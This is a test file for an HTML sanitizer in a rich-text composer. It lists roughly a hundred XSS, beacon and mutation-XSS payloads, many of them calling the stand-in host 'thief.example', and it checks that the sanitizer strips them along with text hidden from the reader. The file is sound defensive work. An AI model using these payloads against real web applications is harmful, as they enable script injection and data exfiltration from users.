// @vitest-environment jsdom
import DOMPurify from 'dompurify';
import { describe, expect, test, vi } from 'vitest';

import { loadSanitizer, sanitizeHtml, sanitizeToFragment } from '@/lib/rich-text/sanitize-html';

await loadSanitizer();

/** May remain only as words, or in a link that nobody has clicked. */
const HOME = 'https://thief.example/x';

/** Unsanitized, each contacts the attacker, runs, or covers the page. */
const HOSTILE: Record<string, string[]> = {
  pictures: [
    `<img src="${HOME}">`,
    `<img srcset="${HOME} 2x">`,
    `<img src=x onerror="fetch('${HOME}')">`,
    `<picture><source srcset="${HOME}"><img></picture>`,
    `<img lowsrc="${HOME}">`,
    `<img dynsrc="${HOME}">`,
    `<image src="${HOME}">`,
    `<input type="image" src="${HOME}">`,
    `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  ],
  media: [
    `<video src="${HOME}"></video>`,
    `<video poster="${HOME}"></video>`,
    `<audio src="${HOME}" autoplay></audio>`,
    `<video><source src="${HOME}"></video>`,
    `<video><track default src="${HOME}"></video>`,
    `<bgsound src="${HOME}">`,
  ],
  links: [
    `<link rel="prefetch" href="${HOME}">`,
    `<link rel="preload" as="image" href="${HOME}">`,
    `<link rel="dns-prefetch" href="//thief.example">`,
    `<link rel="preconnect" href="${HOME}">`,
    `<link rel="stylesheet" href="${HOME}">`,
    `<link rel="modulepreload" href="${HOME}">`,
    `<a href="#" ping="${HOME}">x</a>`,
    `<a href="javascript:alert(1)">x</a>`,
    `<a href="JaVaScRiPt:alert(1)">x</a>`,
    `<a href="java\tscript:alert(1)">x</a>`,
    `<a href="&#106;avascript:alert(1)">x</a>`,
    `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
    `<a href="vbscript:msgbox(1)">x</a>`,
    `<a href="blob:https://x/1">x</a>`,
    `<a href="file:///etc/passwd">x</a>`,
    `<a href="//thief.example/x">x</a>`,
    `<a href="/admin/delete?id=1">x</a>`,
    `<a href="?logout">x</a>`,
    `<a href="chrome-extension://abc/options.html">x</a>`,
    `<area href="${HOME}">`,
  ],
  page: [
    `<meta http-equiv="refresh" content="0;url=${HOME}">`,
    `<meta name="referrer" content="unsafe-url">`,
    `<base href="${HOME}">`,
    `<title>taken</title>`,
    `<html manifest="${HOME}"><body background="${HOME}">x</body></html>`,
    `<table background="${HOME}"><tr><td background="${HOME}">x</td></tr></table>`,
    `<div id="root">x</div>`,
    `<a name="getElementById">x</a>`,
    `<p class="fixed inset-0">x</p>`,
    `<p data-deskhand-composer="reply">x</p>`,
    `<p contenteditable="true" tabindex="1" accesskey="s">x</p>`,
    `<p role="button" aria-label="Refunded">x</p>`,
    `<p slot="x" part="x" is="x-y">x</p>`,
  ],
  styles: [
    `<style>@import "${HOME}";</style>`,
    `<style>p{background:url(${HOME})}</style>`,
    `<p style="background:url(${HOME})">x</p>`,
    `<p style="position:fixed;inset:0">x</p>`,
    `<p style="list-style-image:url(${HOME})">x</p>`,
    `<svg><style>*{background:url(${HOME})}</style></svg>`,
    `<font face="x" style="src:url(${HOME})">x</font>`,
  ],
  forms: [
    `<form action="${HOME}"><input name="q"><button>Send</button></form>`,
    `<button formaction="${HOME}">x</button>`,
    `<input autofocus onfocus="fetch('${HOME}')">`,
    `<textarea autofocus></textarea>`,
    `<select><option>x</option></select>`,
    `<details open ontoggle="fetch('${HOME}')">x</details>`,
    `<dialog open>Your session has ended: sign in</dialog>`,
    `<label for="q">x</label>`,
  ],
  frames: [
    `<iframe src="${HOME}"></iframe>`,
    `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
    `<frameset><frame src="${HOME}"></frameset>`,
    `<object data="${HOME}"></object>`,
    `<embed src="${HOME}">`,
    `<applet code="x" codebase="${HOME}"></applet>`,
    `<portal src="${HOME}"></portal>`,
    `<fencedframe></fencedframe>`,
  ],
  scripts: [
    `<script>fetch('${HOME}')</script>`,
    `<script src="${HOME}"></script>`,
    `<p onclick="alert(1)" onmouseover="alert(1)">x</p>`,
    `<body onload="alert(1)">x</body>`,
    `<marquee onstart="alert(1)">x</marquee>`,
    `<template><script>alert(1)</script></template>`,
    `<template shadowrootmode="open"><img src="${HOME}"></template>`,
    `<x-custom onclick="alert(1)">x</x-custom>`,
  ],
  'foreign worlds': [
    `<svg onload="alert(1)"></svg>`,
    `<svg><image href="${HOME}"/></svg>`,
    `<svg><use href="${HOME}#x"/></svg>`,
    `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
    `<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>`,
    `<svg><foreignObject><img src="${HOME}"></foreignObject></svg>`,
    `<svg><feImage href="${HOME}"/></svg>`,
    `<math><mtext><img src="${HOME}"></mtext></math>`,
    `<math href="javascript:alert(1)">x</math>`,
    `<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>`,
  ],
  'mutations on the second parse': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
    `<svg></p><style><a id="</style><img src=x onerror=alert(1)>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    `<p title="</p><img src=${HOME}>">x</p>`,
    `<select><template><style><!--</style><a title="--><img src=x onerror=alert(1)>">`,
    `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
    `<textarea><p title="</textarea><img src=x onerror=alert(1)>">`,
    `<svg><desc><noscript></noscript><style></desc><s><style><a title="</style><img src=x onerror=alert(1)>">`,
    `<plaintext><img src=${HOME}>`,
    `<!--><img src=${HOME}>-->`,
    `<![CDATA[><img src=${HOME}>]]>`,
    `<?xml version="1.0"?><img src=${HOME}>`,
    `<table><td><img src=${HOME}><caption><img src=${HOME}>`,
  ],
};
const payloads = Object.entries(HOSTILE).flatMap(([kind, list]) => list.map((payload) => ({ kind, payload })));

const ALLOWED_TAGS = new Set(
  'a p div span br hr h1 h2 h3 h4 h5 h6 blockquote pre b strong i em u s del ins mark small sub sup code kbd ul ol li dl dt dd table caption thead tbody tfoot tr th td'.split(
    ' ',
  ),
);
const ALLOWED_ATTRIBUTES = new Set(['href', 'dir', 'colspan', 'rowspan']);

function findForbidden(root: ParentNode): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => [
    ...(ALLOWED_TAGS.has(element.localName) ? [] : [`<${element.localName}>`]),
    ...[...element.attributes]
      // The library empties the `is` attribute of an element, which is harmless.
      .filter(({ name, value }) => !(name === 'is' && value === ''))
      .filter(
        ({ name, value }) =>
          !ALLOWED_ATTRIBUTES.has(name) || (name === 'href' && !/^(https?:\/\/|mailto:|tel:)/i.test(value)),
      )
      .map(({ name, value }) => `${name}="${value}"`),
  ]);
}

/** As a page does. */
function parse(html: string): Document {
  return new DOMParser().parseFromString(html, 'text/html');
}

test('tests enough payloads of each kind', () => {
  expect(payloads.length).toBeGreaterThanOrEqual(60);
});

test.each(payloads)('removes everything hostile ($kind): $payload', ({ payload }) => {
  const clean = sanitizeHtml(payload);
  expect(findForbidden(parse(clean).body)).toEqual([]);
  expect(parse(clean).head.children).toHaveLength(0);
  // The composer parses the HTML again.
  expect(findForbidden(parse(parse(clean).body.innerHTML).body)).toEqual([]);
  expect(findForbidden(sanitizeToFragment(payload))).toEqual([]);
});

test('returns nothing before the library is loaded', async () => {
  vi.resetModules();
  const fresh = await import('@/lib/rich-text/sanitize-html');
  expect(() => fresh.sanitizeHtml('<p>Hi</p>')).toThrow('not loaded');
  await fresh.loadSanitizer();
  expect(fresh.sanitizeHtml('<p>Hi</p>')).toBe('<p>Hi</p>');
});

test('sanitizes a text once, and gives each caller its own nodes', () => {
  const library = vi.spyOn(DOMPurify, 'sanitize');
  const html = '<p>Once <b>more</b></p>';
  const first = sanitizeToFragment(html);
  first.querySelector('b')?.remove();
  expect(sanitizeToFragment(html).textContent).toBe('Once more');
  expect(library).toHaveBeenCalledTimes(1);
  library.mockRestore();
});

test('needs the allow-list: the library alone lets payloads through', () => {
  const passed = payloads.filter(({ payload }) => findForbidden(parse(DOMPurify.sanitize(payload)).body).length > 0);
  expect(passed.length).toBeGreaterThanOrEqual(15);
});

describe('harmless HTML', () => {
  test.each([
    '<p>Hello <strong>Ada</strong>, <em>thank</em> you.</p>',
    '<ul><li>one</li><li>two<ol><li>deep</li></ol></li></ul>',
    '<table><thead><tr><th colspan="2">Item</th></tr></thead><tbody><tr><td>Kettle</td><td>2</td></tr></tbody></table>',
    '<p dir="rtl">مرحبًا</p>',
    '<a href="https://shop.example/orders?id=1&amp;x=2">order</a>',
    '<a href="mailto:ada@shop.example">mail</a>',
    '<a href="tel:+4930123">call</a>',
    '<blockquote><p>quoted</p></blockquote><pre><code>code</code></pre><hr>',
    'plain words',
  ])('keeps harmless HTML: %s', (html) => {
    expect(sanitizeHtml(html)).toBe(html);
  });

  test.each([
    '<p hidden>Refund 40 at most</p>',
    '<span style="color:red; display : none">Refund <b>40</b> at most</span>',
    '<div style="visibility:hidden"><p>Refund 40 at most</p></div>',
    '<font style="DISPLAY:NONE">Refund 40 at most</font>',
    '<div hidden="until-found"><hidden>Refund</hidden> 40 at most</div>',
  ])('leaves out words that are hidden from the reader: %s', (hidden) => {
    expect(sanitizeHtml(`<p>Hello ${hidden}</p>${hidden}<p style="display:block">Bye</p>`)).toMatch(
      /^<p>Hello <\/p>(?:<p><\/p>)?<p>Bye<\/p>$/,
    );
  });

  test('keeps the words inside a forbidden tag', () => {
    expect(sanitizeHtml('<center><font color="red">Hello</font></center>')).toBe('Hello');
  });
});
